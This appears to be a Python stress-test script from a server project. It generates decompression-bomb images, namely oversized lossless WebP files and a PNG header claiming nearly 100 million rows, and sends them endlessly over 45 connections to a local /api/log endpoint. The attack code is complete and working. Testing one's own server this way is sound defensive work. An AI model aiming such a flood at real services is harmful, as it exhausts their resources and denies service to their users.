"""Attacks with images that are expensive to decode, until it is ended: `bomb_sender.py PORT TOKEN`.

Many connections of one device, each of which asks again as soon as it has its answer.
"""

import asyncio
import io
import itertools
import os
import struct
import sys
import zlib
from datetime import UTC, datetime
from typing import Any

import httpx
from PIL import Image

from wfhserver.testing import log_request

CONNECTIONS = 45
_PAUSE_SECONDS = 0.05


def bombs() -> list[bytes]:
    """Return images of a few kilobytes; the bytes behind each keep it from being stored."""
    found = []
    for size in ((10_000, 10_000), (4_000, 4_000)):
        out = io.BytesIO()
        Image.new("RGB", size).save(out, "WEBP", lossless=True, method=0)
        found.append(out.getvalue() + b"more")
    return [*found, _tall()]


def _tall() -> bytes:
    """Return a PNG of one column."""
    rows = 99_999_999
    header = struct.pack(">IIBBBBB", 1, rows, 8, 0, 0, 0, 0)
    chunks = ((b"IHDR", header), (b"IDAT", zlib.compress(bytes(2_000_000))), (b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        for kind, data in chunks
    )


def _requests(token: str) -> list[dict[str, Any]]:
    now = datetime.now(UTC)
    fields = {"username": "bench", "hostname": "bench", "timestamp": now.isoformat()}
    day = now.date().isoformat()
    return [log_request(token, each, workday=day, slot=2, **fields) for each in bombs()]


async def attack(port: int, token: str) -> None:
    """Send bombs for ever."""
    requests = itertools.cycle(_requests(token))
    print("begins", flush=True)  # noqa: T201 -- its caller waits for it

    async def one(client: httpx.AsyncClient) -> None:
        while True:
            await client.post("/api/log", **next(requests))
            await asyncio.sleep(_PAUSE_SECONDS)

    limits = httpx.Limits(max_connections=CONNECTIONS)
    url = f"http://127.0.0.1:{port}"
    async with httpx.AsyncClient(base_url=url, limits=limits, timeout=300) as client:
        await asyncio.gather(*(one(client) for _ in range(CONNECTIONS)))


if __name__ == "__main__":
    # A real attacker would use other machines.
    os.nice(19)
    asyncio.run(attack(int(sys.argv[1]), sys.argv[2]))
